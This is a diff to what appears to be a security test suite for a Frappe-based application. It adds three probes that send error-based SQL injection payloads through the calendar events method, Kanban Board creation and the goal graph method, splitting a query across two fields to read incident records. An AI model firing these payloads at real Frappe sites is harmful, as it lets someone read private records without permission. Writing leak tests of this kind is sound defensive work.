@@ -219,6 +219,26 @@ LEAKS = [
 		lambda c: f'"message":{ord(c.canary[0])}',
 	),
 	Probe(
+		"a query in two pieces, by a calendar",
+		"auditor",
+		("closed doors", "no query in a name"),
+		lambda c, a: method("frappe.desk.calendar.get_events", doctype="User", start="2020-01-01", fields=["name"], field_map={"start": "extractvalue(1,concat(0x7e,(select what_happened/*", "end": "creation"}, end=f"*/from tabIncident where name='{name(c)}'))),1)#".replace("'", '"')),
+	),
+	Probe(
+		"a query in two pieces, by a board",
+		"auditor",
+		("own code", "no query in a name"),
+		lambda c, a: ask("board", "/api/resource/Kanban Board", "POST", body={"kanban_board_name": f"B {c.canary}", "reference_doctype": "ToDo", "field_name": "ifnull(extractvalue(1,concat(0x7e,(select what_happened/*", "columns": [{"column_name": f'*/from tabIncident where name="{name(c)}"))),1)#'}]}),
+		lambda c: f"~{c.canary}",
+	),
+	Probe(
+		"a query in two pieces, by a goal",
+		"director",
+		("closed doors", "no query in a name"),
+		lambda c, a: method("frappe.utils.goal.get_monthly_goal_graph_data", doctype="User", docname=a.people["director"].user, title="x", goal_value_field="name", goal_total_field="name", goal_history_field="name", goal_doctype="Language", goal_doctype_link="owner", date_field="creation", filter_str="1=1", aggregation="extractvalue(1,concat(0x7e,(select what_happened/*", goal_field=f'*/from tabIncident where name="{name(c)}")))from tabLanguage#'),
+		lambda c: f"~{c.canary}",
+	),
+	Probe(
 		"a filter that loosens the condition on who may read",
 		"foreign_officer",
 		("no query in a name",),
